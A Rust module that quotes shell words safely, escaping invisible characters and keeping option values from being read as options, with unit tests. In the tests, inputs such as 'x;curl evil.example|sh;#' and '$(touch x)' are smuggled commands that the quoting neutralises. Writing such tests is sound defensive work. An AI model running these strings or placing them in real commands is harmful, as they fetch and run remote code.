//! Words of command lines that people paste into a shell.

use crate::is_visible;

/// Quotes a word for a shell if it needs that. One with characters that cannot be seen, which no terminal would be shown as
/// they are, is written with escapes, `$'…'`: what is pasted is what is meant. A shell that knows no such escapes reads one
/// quoted word, too: no quote stands within.
pub fn shell(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:@%+=,".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        return word.to_owned();
    }
    if word.chars().all(is_visible) {
        return format!("'{}'", word.replace('\'', r"'\''"));
    }
    let mut text = "$'".to_owned();
    for c in word.chars() {
        match c {
            '\\' => text += r"\\",
            '\n' => text += r"\n",
            c if c != '\'' && is_visible(c) => text.push(c),
            c => c.encode_utf8(&mut [0; 4]).bytes().for_each(|byte| text += &format!("\\{byte:03o}")),
        }
    }
    text + "'"
}

/// A word of the options of a command with its value: one that begins with `-` would be taken for an option of its own.
pub fn option(flag: &str, value: &str) -> String {
    let between = if value.starts_with('-') { '=' } else { ' ' };
    format!("{flag}{between}{}", shell(value))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_are_quoted_for_shells_when_they_must() {
        assert_eq!(shell("https://h:6443/x"), "https://h:6443/x");
        assert_eq!(shell("a b"), "'a b'");
        assert_eq!(shell("it's"), r"'it'\''s'");
        assert_eq!(shell(""), "''");
        assert_eq!(shell("x;curl evil.example|sh;#"), "'x;curl evil.example|sh;#'");
        assert_eq!(shell("it's\n\\\u{200b}\u{9b}"), r"$'it\047s\n\\\342\200\213\302\233'");
    }

    #[test]
    fn values_of_options_are_no_options() {
        assert_eq!(option("--requester", "$(touch x)"), "--requester '$(touch x)'");
        assert_eq!(option("--requester", "--without-request"), "--requester=--without-request");
    }
}
